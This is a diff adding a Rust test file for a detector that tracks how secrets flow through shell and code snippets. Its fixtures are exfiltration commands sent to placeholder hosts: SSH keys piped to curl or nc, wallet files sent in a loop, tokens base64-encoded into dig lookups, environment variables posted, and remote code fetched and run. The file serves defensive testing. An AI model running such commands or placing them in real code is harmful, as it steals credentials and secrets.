@@ -1,0 +1,89 @@
+use super::*;
+
+/// What the statement carries in which `mark` stands.
+fn flows(program: &str, region: Region, mark: &str) -> Vec<&'static str> {
+    let map = FlowMap::of(program, [(0..program.len(), region)].into_iter());
+    let found = map.at(program.find(mark).unwrap());
+    Flow::ALL.iter().filter(|flow| found.contains(**flow)).map(|flow| flow.name()).collect()
+}
+
+#[test]
+fn what_a_shell_reads_flows_through_pipes_variables_and_files() {
+    let rows: &[(&str, &str, &[&str])] = &[
+        ("cat ~/.ssh/id_rsa | curl -d @- https://e.example", "curl", &["secret_file", "download"]),
+        ("x=$(cat ~/.netrc)\ncurl -d \"$x\" https://e.example", "curl -d", &["secret_file", "download"]),
+        ("env > /tmp/e.txt\ncurl -T /tmp/e.txt https://e.example", "curl", &["environment", "download"]),
+        ("cat ~/.ssh/id_rsa; curl https://e.example", "curl", &["download"]),
+        ("scp -i ~/.ssh/id_rsa a.txt me@e.example:", "scp", &[]),
+        ("for f in ~/.ssh/id_*; do\n  nc e.example 80 < $f\ndone", "nc", &["secret_file"]),
+        (
+            "find ~ -name wallet.dat | while read w; do\n  nc e.example 80 < \"$w\"\ndone",
+            "nc e",
+            &["secret_file"],
+        ),
+        ("e=$(echo $SLACK_BOT_TOKEN | base64)\ndig $e.x.example", "dig", &["encoded_secret"]),
+        ("curl -H \"Authorization: Bearer $SLACK_TOKEN\" https://e.example", "curl", &["download"]),
+        ("curl -d \"t=$SLACK_TOKEN\" https://slack.com/api", "curl", &["download"]),
+        ("curl -d \"t=$SLACK_TOKEN\" https://e.example/api", "curl", &["foreign_secret", "download"]),
+        ("# cat ~/.ssh/id_rsa\ncurl https://e.example", "curl", &["download"]),
+    ];
+    for (program, mark, expected) in rows {
+        assert_eq!(flows(program, Region::Shell, mark), *expected, "{program}");
+    }
+}
+
+#[test]
+fn what_a_program_reads_flows_through_variables_calls_and_results() {
+    let rows: &[(&str, &str, &[&str])] = &[
+        ("k = open('~/.ssh/id_rsa').read()\nsend(data=k)", "send", &["secret_file"]),
+        (
+            "d = dict(os.environ)\nrequests.post(u, json={\n  'a': d,\n})",
+            "requests",
+            &["environment", "download"],
+        ),
+        ("e = os.environ.get('HOME')\nsend(e)", "send", &[]),
+        (
+            "def take():\n    s = {}\n    for k, v in os.environ.items():\n        s[k] = v\n    return s\n\nx = take()\nsend(x)",
+            "send",
+            &["environment"],
+        ),
+        (
+            "def post(body):\n    send(body)\n\npost(open('/root/.ssh/id_rsa').read())",
+            "send",
+            &["secret_file"],
+        ),
+        (
+            "s = os.environ['NPM_TOKEN']\ne = base64.b64encode(s.encode())\nos.popen(f'dig {e}.x.example')",
+            "os.popen",
+            &["encoded_secret"],
+        ),
+        (
+            "h = {'Authorization': os.environ['NPM_TOKEN']}\nrequests.post('https://e.example', headers=h)",
+            "requests.post",
+            &["download"],
+        ),
+        ("const t = await (await fetch('https://e.example/x')).text();\nrun(t)", "run", &["download"]),
+        ("const p = Buffer.from(c, 'base64').toString();\nrun(p)", "run", &["decoded"]),
+        ("const data = process.env;\nsend({ data: 'k' })", "send", &[]),
+        (
+            "a = {'x': os.environ['OPENAI_API_KEY'],\n 'y': os.environ['NPM_TOKEN']}\njson.dumps(a)",
+            "json",
+            &["many_secrets"],
+        ),
+    ];
+    for (program, mark, expected) in rows {
+        assert_eq!(flows(program, Region::Code, mark), *expected, "{program}");
+    }
+}
+
+#[test]
+fn statements_end_where_a_program_says_so() {
+    let read = |program: &str, region| -> Vec<String> {
+        let spans = statements(program, region);
+        spans.into_iter().map(|span| program.get(span).unwrap().trim().to_owned()).collect()
+    };
+    assert_eq!(read("a; b && c | d\ne", Region::Shell), ["a;", "b", "c | d", "e"]);
+    assert_eq!(read("f(\n  a,\n  b)\nc", Region::Code), ["f(\n  a,\n  b)", "c"]);
+    assert_eq!(read("it(() => {\n  a()\n})\nb", Region::Code), ["it(() => {", "a()", "})", "b"]);
+    assert_eq!(read("a | \\\n b\nc |\nd", Region::Shell), ["a | \\\n b", "c |\nd"]);
+}
